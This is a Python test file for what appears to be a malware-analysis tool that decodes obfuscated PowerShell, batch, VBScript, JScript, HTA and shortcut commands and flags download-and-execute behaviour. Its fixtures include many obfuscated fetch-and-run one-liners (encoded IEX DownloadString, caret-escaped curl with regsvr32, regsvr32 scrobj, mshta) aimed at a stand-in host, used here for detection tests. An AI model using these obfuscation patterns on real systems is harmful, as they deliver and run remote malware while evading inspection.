"""The layers that shells and script hosts undo, and what comes out of them."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.builders.files import examined, link, names_of

from seriema.examine.shells import batch, powershell, told, vbscript
from seriema.model.artifact import State

CODE = "IEX (New-Object Net.WebClient).DownloadString('http://a.test/x')"
ENCODED = base64.b64encode(CODE.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "command",
    [
        f"powershell.exe -nop -w hidden -enc {ENCODED}",
        "c^u^rl http://a.test/x -o %TEMP%\\x.dll & r^egsvr32 %TEMP%\\x.dll",
        "set a=http://a\nset b=.test/x\nset c=cu\n%c%rl %a%%b% -o z.exe\nstart z.exe",
        "@set x=abcdefghijklmnopqrstuvwxyz\n%x:~12,1%%x:~18,1%hta http://a.test/x",
        "$a='http';$b=$a+'://a.test/'+'x';(New-Object Net.WebClient).(\"{1}{0}\" -f 'loadFile','Down').Invoke($b,'p')",
        "iwr ('hXXp://a.test/x'.Replace('XX','tt')) | IEX",
        "I`E`X (iwr -useb ('x/tset.a//:ptth'[-1..-15] -join ''))",
        "IEX(iwr (104,116,116,112,58,47,47,97,46,116,101,115,116,47,120|%{[char]$_}))",
        "regsvr32 /s /n /u /i:http://a.test/x scrobj.dll",
    ],
)
def test_what_is_fetched_and_run_comes_out(command):
    seen = told([command])
    assert (seen.fetches_and_runs, seen.urls) == (True, ("http://a.test/x",))


@pytest.mark.parametrize(
    "command",
    [
        "iwr http://$x.test/a",
        "iwr ('http://a.test/' + $y)",
        "curl http://a.test/%x%.exe",
        "echo ^& pause",
        "ping 192.0.2.1",
    ],
)
def test_half_an_address_is_none(command):
    assert told([command]).urls == ()


def test_strings_of_vbscript_are_put_together():
    source = (
        'x = "ht" & "tp" : y = x & "://a" & Chr(46) & "test/"\no.open "GET", y & "f.exe"\nw.Run "cmd " & Environ("x")'
    )
    found = vbscript.strings(source)
    assert "http://a.test/f.exe" in found
    assert [one for one in found if one.startswith("cmd")] == [f"cmd {vbscript.HOLE}"]


SCRIPTS = {
    "a.js": "var h=new ActiveXObject('MSXML2.'+'XMLHTTP');h.open('GET','http://a'+'.test/x',0);"
    "new ActiveXObject('WScr'+'ipt.Shell').Run('regsvr32 x')",
    "a.vbs": 'x="http://a.test/" & "x"\nSet h=CreateObject("MSXML2" & ".XMLHTTP")\nh.open "GET",x\n'
    'CreateObject("WScript" & ".Shell").Run "y"',
    "a.bat": "set u=http://a.test/x\ncurl %u% -o y.dll\nregsvr32 y.dll",
    "a.ps1": CODE,
    "a.hta": "<html><script language=jscript>new ActiveXObject('WScript.Shell').Run('mshta http://a.test/x')</script>",
    "a.wsf": '<job><script language=VBScript>CreateObject("WScript.Shell").Run "mshta http://a.te" & "st/x"</script>',
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_that_fetches_and_runs(name):
    seen = examined(SCRIPTS[name].encode(), name)
    assert "script.fetch-and-run" in names_of(seen)
    assert ("http://a.test/x", "download") in {(one.value, one.role) for one in seen.indicators}


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.js", "var x = [1,2].map(function (a) { return a * 2; });"), ("a.bat", "@echo off\nxcopy a b"),
     ("a.ps1", "Get-ChildItem | Sort-Object Name"), ("a.vbs", 'MsgBox "Hello"')],
)  # fmt: skip
def test_an_ordinary_script_does_not(name, content):
    assert "script.fetch-and-run" not in names_of(examined(content.encode(), name))


def test_a_shortcut_that_fetches_and_runs_behind_a_documents_icon():
    seen = examined(link("C:\\Windows\\System32\\cmd.exe", f"/c powershell -e {ENCODED}", icon="C:\\a.pdf"), "a.lnk")
    assert {"shortcut.fetch-and-run", "shortcut.poses-as-document"} <= names_of(seen)


@pytest.mark.parametrize("name", SCRIPTS)
@settings(max_examples=60, deadline=None)
@given(st.data())
def test_damaged_scripts(name, data):
    content = bytearray(SCRIPTS[name].encode())
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.sampled_from(b"\"'()%^&{}+\n\x00$"))
    assert examined(bytes(content), name).state is not State.CRASHED


@pytest.mark.parametrize("piece", ["'a'+", "[char]65+", "%a%", "^", "set a=%a%%a%\n", '"a" & ', "Chr(", "((("])
def test_repetition_does_not_slow_them(piece):
    text = piece * 20_000
    batch.unfolded(text)
    powershell.layers(text[:60_000])
    vbscript.strings(text)
